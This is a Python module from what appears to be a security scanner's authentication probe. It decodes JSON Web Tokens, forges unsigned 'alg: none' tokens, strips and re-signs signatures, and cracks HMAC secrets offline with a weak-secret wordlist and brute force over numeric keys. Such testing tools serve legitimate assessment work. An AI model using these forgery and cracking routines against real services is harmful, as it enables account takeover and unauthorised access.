"""JWT surgery for the authentication probe: decode, re-sign, strip, and crack HS256 secrets offline."""

from __future__ import annotations

import base64
import hashlib
import hmac
from typing import Any

import orjson

from bastion.scanner.payloads import wordlist

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def decode(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = orjson.loads(unb64(parts[0])), orjson.loads(unb64(parts[1]))
    except (ValueError, orjson.JSONDecodeError):
        return None
    return (header, claims) if isinstance(header, dict) and isinstance(claims, dict) else None


def unsigned(claims: dict[str, Any]) -> str:
    return f"{b64(orjson.dumps({'alg': 'none', 'typ': 'JWT'}))}.{b64(orjson.dumps(claims))}."


def stripped(token: str) -> str:
    head, body, _ = token.split(".")
    return f"{head}.{body}."


def sign(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    alg = str(header.get("alg", "HS256"))
    signing_input = f"{b64(orjson.dumps(header))}.{b64(orjson.dumps(claims))}"
    mac = hmac.new(secret, signing_input.encode(), HASHES.get(alg, hashlib.sha256)).digest()
    return f"{signing_input}.{b64(mac)}"


def expires_soon(token: str | None, deadline: float) -> bool:
    """Is ``token`` a JWT whose ``exp`` claim falls before ``deadline`` (a Unix time)?"""
    decoded = decode(token) if token else None
    exp = decoded[1].get("exp") if decoded else None
    return isinstance(exp, int | float) and not isinstance(exp, bool) and exp <= deadline


MAX_DIGITS = 6
"""Numeric secrets tried up to this many digits (a PIN-like secret: "6 digits are random enough")."""


def crack(token: str, max_digits: int = 0) -> bytes | None:
    """The HMAC secret, when it is in the built-in list of weak secrets or, with ``max_digits``, a number of
    at most that many digits (with and without leading zeros: ~1.1 million keys for 6, a few seconds of
    CPU — run it off the event loop, ``messages.offline``)."""
    decoded = decode(token)
    if decoded is None or decoded[0].get("alg") not in HASHES:
        return None
    head, body, sig = token.split(".")
    name = str(decoded[0]["alg"])
    try:
        expected = unb64(sig)
    except ValueError:
        return None
    message = f"{head}.{body}".encode()
    for word in wordlist("jwt_secrets"):
        key = word.encode()
        if hmac.compare_digest(hmac.new(key, message, HASHES[name]).digest(), expected):
            return key
    return _numeric(message, expected, "sha" + name[2:], max_digits)


def _numeric(message: bytes, expected: bytes, digest: str, max_digits: int) -> bytes | None:
    one_shot = hmac.digest  # the C one-shot HMAC: a third of hmac.new(...).digest()'s cost per key
    for width in range(1, max_digits + 1):
        for n in range(10**width):
            key = b"%0*d" % (width, n)
            if one_shot(key, message, digest) == expected:  # (offline, no timing to leak)
                return key
    return None
